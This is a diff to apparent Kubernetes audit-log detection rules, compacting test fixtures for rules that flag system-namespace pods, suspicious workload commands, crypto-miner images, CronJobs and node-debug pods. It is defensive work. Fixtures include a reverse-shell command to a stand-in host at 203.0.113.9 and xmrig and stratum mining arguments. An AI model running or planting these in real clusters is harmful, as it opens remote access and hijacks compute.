@@ -22,40 +22,11 @@ export const podInSystem = incidents({
   ],
   wants: `verb:create ${WORKLOADS} ${SYSTEM_NAMESPACES} actor:human,anonymous,other`,
   reads: "bodies",
-  hits: [
-    [
-      {
-        user: "simon",
-        verb: "create",
-        resource: "pods",
-        namespace: "kube-system",
-        name: "kube-proxy-tools",
-        code: 201,
-      },
-    ],
-    [
-      {
-        user: "simon",
-        verb: "create",
-        resource: "daemonsets.apps",
-        namespace: "kube-system",
-        name: "tuner",
-        code: 201,
-      },
-    ],
-  ],
+  usual: { user: "simon", verb: "create", resource: "pods", namespace: "kube-system", name: "kube-proxy-tools" },
+  hits: [[{}], [{ resource: "daemonsets.apps", name: "tuner" }]],
   misses: [
-    [{ user: "simon", verb: "create", resource: "pods", namespace: "shop", name: "kube-proxy-tools", code: 201 }],
-    [
-      {
-        user: "system:serviceaccount:kube-system:daemon-set-controller",
-        verb: "create",
-        resource: "pods",
-        namespace: "kube-system",
-        name: "kube-proxy-abcde",
-        code: 201,
-      },
-    ],
+    [{ namespace: "shop" }],
+    [{ user: "system:serviceaccount:kube-system:daemon-set-controller", name: "kube-proxy-abcde" }],
   ],
   judge: ({ facts, response }) => {
     const name = facts.name === "" ? text(field(response, "metadata"), "name") : facts.name;
@@ -75,15 +46,11 @@ export const workloadCommand = incidents({
   references: ["T1053.007", "T1059.004", "T1105"],
   wants: `verb:create,update,patch ${WORKLOADS} ${NOT_MACHINERY}`,
   reads: "bodies",
+  usual: { user: "divya", verb: "create", resource: "pods", namespace: "shop", name: "w" },
   hits: [
     [
       {
-        user: "divya",
-        verb: "create",
         resource: "cronjobs.batch",
-        namespace: "shop",
-        name: "w",
-        code: 201,
         request: {
           spec: {
             jobTemplate: {
@@ -97,31 +64,11 @@ export const workloadCommand = incidents({
         },
       },
     ],
-    [
-      {
-        user: "divya",
-        verb: "create",
-        resource: "pods",
-        namespace: "shop",
-        name: "w",
-        code: 201,
-        request: { spec: { containers: [{ name: "c", args: ["bash", "-i", ">&", "/dev/tcp/203.0.113.9/443"] }] } },
-      },
-    ],
+    [{ request: { spec: { containers: [{ name: "c", args: ["bash", "-i", ">&", "/dev/tcp/203.0.113.9/443"] }] } } }],
   ],
   misses: [
-    [
-      {
-        user: "divya",
-        verb: "create",
-        resource: "pods",
-        namespace: "shop",
-        name: "w",
-        code: 201,
-        request: { spec: { containers: [{ name: "c", command: ["sh", "-c", "curl -s http://web/health"] }] } },
-      },
-    ],
-    [{ user: "divya", verb: "create", resource: "pods", namespace: "shop", name: "w", code: 201 }],
+    [{ request: { spec: { containers: [{ name: "c", command: ["sh", "-c", "curl -s http://web/health"] }] } } }],
+    [{}],
   ],
   judge: (sighting) => {
     const spec = podSpecOf(sighting);
@@ -145,50 +92,21 @@ export const imageOdd = incidents({
   references: ["T1496", "T1204.003", "Defender: digital currency mining container detected"],
   wants: `verb:create,update,patch ${WORKLOADS} ${NOT_MACHINERY}`,
   reads: "bodies",
+  usual: { user: "zainab", verb: "create", resource: "pods", namespace: "a", name: "x" },
   hits: [
     [
       {
-        user: "zainab",
-        verb: "create",
         resource: "deployments.apps",
-        namespace: "a",
-        name: "x",
-        code: 201,
         request: { spec: { template: { spec: { containers: [{ name: "c", image: "docker.io/x/xmrig:6" }] } } } },
       },
     ],
-    [
-      {
-        user: "zainab",
-        verb: "create",
-        resource: "pods",
-        namespace: "a",
-        name: "x",
-        code: 201,
-        request: { spec: { containers: [{ name: "c", image: "busybox", args: ["-o", "stratum+tcp://p:3333"] }] } },
-      },
-    ],
+    [{ request: { spec: { containers: [{ name: "c", image: "busybox", args: ["-o", "stratum+tcp://p:3333"] }] } } }],
   ],
   misses: [
-    [
-      {
-        user: "zainab",
-        verb: "create",
-        resource: "pods",
-        namespace: "a",
-        name: "x",
-        code: 201,
-        request: { spec: { containers: [{ name: "c", image: "nginx:1.27" }] } },
-      },
-    ],
+    [{ request: { spec: { containers: [{ name: "c", image: "nginx:1.27" }] } } }],
     [
       {
         user: "system:serviceaccount:kube-system:replicaset-controller",
-        verb: "create",
-        resource: "pods",
-        namespace: "a",
-        name: "x",
-        code: 201,
         request: { spec: { containers: [{ name: "c", image: "xmrig" }] } },
       },
     ],
@@ -214,23 +132,9 @@ export const workloadCronJob = incidents({
   advice: "Ask what for, if it did not come through the pipeline.",
   references: ["T1053.007", "Sigma: kubernetes_audit_cronjob_modification"],
   wants: 'verb:create resource:cronjobs.batch sub:"" actor:human',
-  hits: [
-    [{ user: "divya", verb: "create", resource: "cronjobs.batch", namespace: "shop", name: "w", code: 201 }],
-    [{ user: "divya", verb: "create", resource: "cronjobs.batch", namespace: "kube-system", name: "w", code: 201 }],
-  ],
-  misses: [
-    [
-      {
-        user: "system:serviceaccount:ci:deployer",
-        verb: "create",
-        resource: "cronjobs.batch",
-        namespace: "shop",
-        name: "w",
-        code: 201,
-      },
-    ],
-    [{ user: "divya", verb: "get", resource: "cronjobs.batch", namespace: "shop", name: "w" }],
-  ],
+  usual: { user: "divya", verb: "create", resource: "cronjobs.batch", namespace: "shop", name: "w" },
+  hits: [[{}], [{ namespace: "kube-system" }]],
+  misses: [[{ user: "system:serviceaccount:ci:deployer" }], [{ verb: "get" }]],
   judge: ({ facts }) =>
     isSystemNamespace(facts.namespace) ? { severity: "medium", why: "it is in a namespace of the cluster itself" } : {},
 });
@@ -243,23 +147,9 @@ export const nodeDebug = incidents({
   advice: "Ask what for: such a pod has the node's disk and processes.",
   references: ["T1611", "T1609"],
   wants: `verb:create resource:pods sub:"" name:node-debugger-* ${NOT_MACHINERY}`,
-  hits: [
-    [
-      {
-        user: "ann",
-        verb: "create",
-        resource: "pods",
-        namespace: "default",
-        name: "node-debugger-worker-1-abcde",
-        code: 201,
-      },
-    ],
-    [{ user: "ann", verb: "create", resource: "pods", namespace: "a", name: "node-debugger-n-x", code: 201 }],
-  ],
-  misses: [
-    [{ user: "ann", verb: "create", resource: "pods", namespace: "default", name: "debugger", code: 201 }],
-    [{ user: "ann", verb: "delete", resource: "pods", namespace: "default", name: "node-debugger-worker-1-abcde" }],
-  ],
+  usual: { user: "ann", verb: "create", resource: "pods", namespace: "default", name: "node-debugger-worker-1-abcde" },
+  hits: [[{}], [{ namespace: "a", name: "node-debugger-n-x" }]],
+  misses: [[{ name: "debugger" }], [{ verb: "delete" }]],
   judge: ({ facts }) => ({
     did: ["opened", "open"],
     what: `a shell on a node with pod ${facts.namespace}/${facts.name} (${plain(facts.resource)})`,
